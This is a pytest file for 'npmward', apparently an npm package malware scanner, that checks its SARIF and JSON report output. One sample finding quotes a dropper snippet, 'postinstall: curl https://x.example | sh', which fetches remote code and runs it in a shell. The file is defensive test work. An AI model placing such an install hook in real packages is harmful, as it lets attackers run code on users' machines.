"""SARIF validates against the official 2.1.0 schema; JSON keeps the documented shape."""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema

from npmward.model import (Confidence, Finding, PackageId, PackageReport, ScanReport, Severity,
                           TargetError)
from npmward.report import render
from npmward.verdict import decide

SCHEMA = json.loads((Path(__file__).parent / "schemas" / "sarif-2.1.0-rtm.5.json").read_text())


def sample_report() -> ScanReport:
    bad = Finding("install-script/fetch-and-execute", Severity.CRITICAL, Confidence.HIGH, "dropper",
                  "The `postinstall` script downloads code and pipes it to an interpreter.",
                  "package.json", 5, "postinstall: curl https://x.example | sh")
    lock = Finding("audit/vulnerability", Severity.HIGH, Confidence.HIGH, "vulnerability", "ReDoS",
                   "package-lock.json", None, None, {"id": "GHSA-xxxx", "project_file": True})
    info = Finding("install-script/recognised", Severity.INFO, Confidence.HIGH, "install-script", "node-gyp")
    packages = (
        PackageReport(PackageId("@evil/pkg", "1.0.0"), "tarball:x.tgz", "sha512-AAAA", decide([bad]), (bad,)),
        PackageReport(PackageId("braces", "3.0.2"), "registry:x", None, decide([lock, info]), (lock, info),
                      paths=(("root@1.0.0", "micromatch@4.0.5", "braces@3.0.2"),)),
    )
    return ScanReport(packages, (TargetError("nope.tgz", "no such file"),), ("database is 9 days old",))


def test_sarif_validates_against_official_schema():
    sarif = json.loads(render(sample_report(), "sarif"))
    jsonschema.validate(sarif, SCHEMA)
    run = sarif["runs"][0]
    assert [r["ruleId"] for r in run["results"]] == [
        "install-script/fetch-and-execute", "audit/vulnerability", "install-script/recognised"]
    first, second, _ = run["results"]
    assert first["level"] == "error"
    assert first["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "node_modules/@evil/pkg/package.json"
    assert second["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "package-lock.json"
    rule = run["tool"]["driver"]["rules"][first["ruleIndex"]]
    assert rule["id"] == first["ruleId"] and rule["properties"]["security-severity"] == "9.5"
    assert run["invocations"][0]["executionSuccessful"] is False


def test_sarif_schema_rejects_a_broken_document():
    sarif = json.loads(render(sample_report(), "sarif"))
    sarif["runs"][0]["results"][0]["level"] = "fatal"
    try:
        jsonschema.validate(sarif, SCHEMA)
    except jsonschema.ValidationError:
        return
    raise AssertionError("schema accepted an invalid level")


def test_json_report_shape():
    data = json.loads(render(sample_report(), "json"))
    assert data["tool"]["name"] == "npmward"
    pkg = data["packages"][0]
    assert {"name", "version", "integrity", "source", "verdict", "score", "findings"} <= set(pkg)
    assert pkg["verdict"] == "malicious" and 0 <= pkg["score"] <= 10
    assert set(pkg["findings"][0]) >= {"rule", "severity", "confidence", "category", "message", "file", "line", "snippet"}
    assert data["packages"][1]["paths"] == [["root@1.0.0", "micromatch@4.0.5", "braces@3.0.2"]]
    assert data["errors"] == [{"target": "nope.tgz", "message": "no such file"}]


def test_findings_round_trip_through_the_cache_form():
    for package in sample_report().packages:
        for finding in package.findings:
            assert Finding.from_dict(json.loads(json.dumps(finding.to_dict()))) == finding
